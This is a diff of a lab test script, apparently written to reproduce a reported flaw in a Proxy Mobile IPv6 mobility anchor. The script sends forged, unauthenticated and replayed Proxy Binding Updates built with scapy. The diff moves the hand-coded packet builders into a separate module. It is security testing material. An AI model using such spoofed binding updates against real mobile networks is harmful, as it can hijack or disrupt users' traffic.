@@ -4,67 +4,23 @@
 # and broken authentication, a replay of an authentic PBU captured on wan2, and
 # PBUs from an address that is no MAG's. scapy builds the IPv6 packets, their
 # Mobility Header checksums and the frames; the PMIPv6 options (RFC 5213 8,
-# RFC 4285 5), which scapy lacks, are packed by hand.
+# RFC 4285 5), which scapy lacks, are packed by hand in pmip_mh.py, which
+# the test runs before this file.
 #
 # usage: lab_attack.py LMA_ADDR LMA_MAC MAG2_ADDR HOST2_ADDR MAG2_SPI WAN2_PCAP [reported]
 # Prints one line per variant: "sent NAME COUNT". With `reported`, only the
 # attack as the issue reported it is sent.
 
 import os
-import struct
 import sys
-import time
 
 from scapy.all import IPv6, Ether, Raw, in6_chksum, rdpcap, raw, sendp
+
+# padding, aligned, pbu and auth_option come from pmip_mh.py, run before this.
 
 lma, lma_mac, mag2, host2, spi, pcap = sys.argv[1:7]
 only_reported = sys.argv[7:] == ["reported"]
 spi = int(spi)
-VM1_MN_ID = b"vm1@tapmip"
-VM1_MAC = bytes.fromhex("525400aa0001")
-
-
-def padding(n):
-    """Pad1 or PadN of n octets (RFC 6275 6.2.2, 6.2.3)."""
-    if n == 0:
-        return b""
-    if n == 1:
-        return b"\x00"
-    return bytes([1, n - 2]) + bytes(n - 2)
-
-
-def aligned(body, option, x, y):
-    """Appends option to body (which starts 12 octets into the MH) at xn+y."""
-    at = 12 + len(body)
-    return body + padding((y - at) % x) + option
-
-
-def pbu(hi, auth=None, seq=4242):
-    """A PBU for vm1 as a MAG builds it: A, H, P set, lifetime 3600 s, MN-ID,
-    HNP ::/0, HI, ATT 802.3, MN LL-ID, a timestamp of now. `auth` is the
-    authentication option's octets and the alignment they need."""
-    body = b""
-    body = aligned(body, bytes([8, 1 + len(VM1_MN_ID), 1]) + VM1_MN_ID, 1, 0)
-    body = aligned(body, bytes([22, 18, 0, 0]) + bytes(16), 8, 4)
-    body = aligned(body, bytes([23, 2, 0, hi]), 1, 0)
-    body = aligned(body, bytes([24, 2, 0, 3]), 1, 0)
-    body = aligned(body, bytes([25, 8, 0, 0]) + VM1_MAC, 8, 2)
-    stamp = int(time.time() * 65536)
-    body = aligned(body, bytes([27, 8]) + struct.pack("!Q", stamp), 8, 2)
-    if auth is not None:
-        option, x, y = auth
-        body = aligned(body, option, x, y)
-    body += padding(-(12 + len(body)) % 8)
-    length = 12 + len(body)
-    head = struct.pack("!BBBBHHHH", 59, length // 8 - 1, 5, 0, 0, seq, 0xC200, 900)
-    return head + body
-
-
-def auth_option(spi, data, length=None):
-    """Type 9, Subtype 1 (MN-HA), SPI, data; aligned to end the message."""
-    option = bytes([9, 5 + len(data) if length is None else length, 1])
-    option += struct.pack("!I", spi) + data
-    return option, 8, (-len(option)) % 8
 
 
 def send(name, src, mh, count=1):
